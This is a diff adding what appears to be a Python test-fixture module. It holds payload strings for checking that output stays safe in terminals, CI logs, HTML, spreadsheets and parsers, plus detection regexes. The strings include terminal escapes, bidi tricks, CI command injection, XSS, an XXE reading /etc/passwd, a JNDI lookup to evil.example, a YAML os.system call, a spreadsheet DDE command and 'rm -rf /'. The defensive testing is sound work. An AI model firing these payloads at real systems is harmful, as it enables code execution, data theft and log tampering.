@@ -1,0 +1,126 @@
+"""What scraped text may try on a terminal, a log, a page, a spreadsheet or a parser: each goes through every way out."""
+
+from __future__ import annotations
+
+import re
+
+TERMINAL = [
+    "\x1b[31mred\x1b[0m",
+    "\x1b[2J\x1b[H",
+    "\x1b[8mconcealed\x1b[28m",
+    "\x1b[6n",
+    "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x1b]1337;File=name=x:eA==\x07",
+    "\x1bP+q544e\x1b\\",
+    "\x1b_Gf=100;eA==\x1b\\",
+    "\x1b^private\x1b\\",
+    "\x1bc reset",
+    "\x9b31mC1\x9d0;t\x9c",
+    "\x90q\x9c",
+    "over\rwritten",
+    "back\x08\x08space\x7f",
+    "\x05answer\x0e\x0f",
+    "a\x00b",
+    "bell\x07",
+]
+UNSEEN = [
+    "user\u202etxt.exe",
+    "\u202auser\u202b a\u202c \u202dx",
+    "\u2066isolate\u2069 \u200emark\u200f \u061c",
+    "\u2067if admin\u2069 \u2068x\u2069",
+    "line\u2028sep\u2029par",
+    "next\x85line\x0bvt\x0cff",
+    "\x1cfile\x1dgroup\x1erecord\x1funit",
+    "lone \ud800 and \udfff",
+    "pair the wrong way \udc00\ud800",
+    "zero\u200bwidth\ufeff",
+    "\u2060\u2061\u2062\u2063\u2064 \u180e \xad",
+    "\ufff9a\ufffab\ufffb",
+    "tag \U000e0041\U000e007f",
+    "\ufffe\uffff\ufdd0\U0010ffff",
+    "z" + "\u0301\u0316\u0489" * 40,
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u65e5\u672c\u8a9e",
+]
+RUNNERS = [
+    "::error file=a,line=1::broken",
+    "\n::set-output name=x::y",
+    "\r::set-env name=x::y",
+    "\u2028::save-state name=x::y",
+    "\x85::stop-commands::x",
+    "  ::add-mask::x",
+    "\t::warning::x",
+    "\xa0::add-path::/x",
+    "::add-matcher::x.json",
+    "%0A::error::x",
+    "%250A::notice::x",
+    "a,title=b::c",
+    "##[error]x",
+    "a ##[group] b",
+    "##[add-mask]x",
+    "##vso[task.setvariable variable=x]y",
+    "##teamcity[x]",
+    "EOF\nname=value\n",
+    "section_start:1:x[collapsed=true]\r\x1b[0K",
+]
+MARKUP = [
+    "</script><script>alert(1)</script>",
+    "<!--<script>",
+    "]]> <!-- & ' \"",
+    "</failure></testcase>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "<img src=x onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "</style><style>*{background:url(//evil.example)}",
+    "</title><svg onload=alert(1)>",
+    "&lt;b&gt; &#60;b&#62;",
+    "a | b |\n|---|---|",
+    "` `` ``` ~~~",
+    "``",
+    " ` ",
+    "[link](https://evil.example) https://evil.example www.evil.example @everyone #1 <b>x</b> ![i](x) \\` \\|",
+    "[x]: https://evil.example",
+    "</details><img src=x onerror=alert(1)>",
+    "    indented",
+    "# heading",
+    "```suggestion\nrm -rf /\n```",
+    "$$\\unicode{x}$$",
+]
+TEMPLATES = [
+    "%s {match} {0.__class__} %(x)d",
+    "{{ 7*7 }} {% raw %} {# x #}",
+    "${jndi:ldap://evil.example/a} $(id) `id`",
+    "[red]rich[/red] [link=https://evil.example]x[/link]",
+    "\\x1b[31m \\u202e \\N{BULLET}",
+    "{0} [1](2) {1}",
+]
+PARSERS = [
+    "NaN Infinity -Infinity 1e400",
+    '"}],"findings":[{"rule":"x',
+    '\\"\\\\\\',
+    "\\ud800 \\u0000",
+    "__proto__ constructor $ref",
+    "---\n- !!python/object/apply:os.system [id]",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\uff1d1",
+    'x,"=1',
+    "x;=1",
+]
+PAYLOADS = [*TERMINAL, *UNSEEN, *RUNNERS, *MARKUP, *TEMPLATES, *PARSERS]
+# What must not stand in any output: what acts in a terminal, reorders, or ends a line for some readers of it.
+FORBIDDEN = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufeff]"
+)
+RUNNER = re.compile(r"^\s*::|##\w*\[", re.MULTILINE)
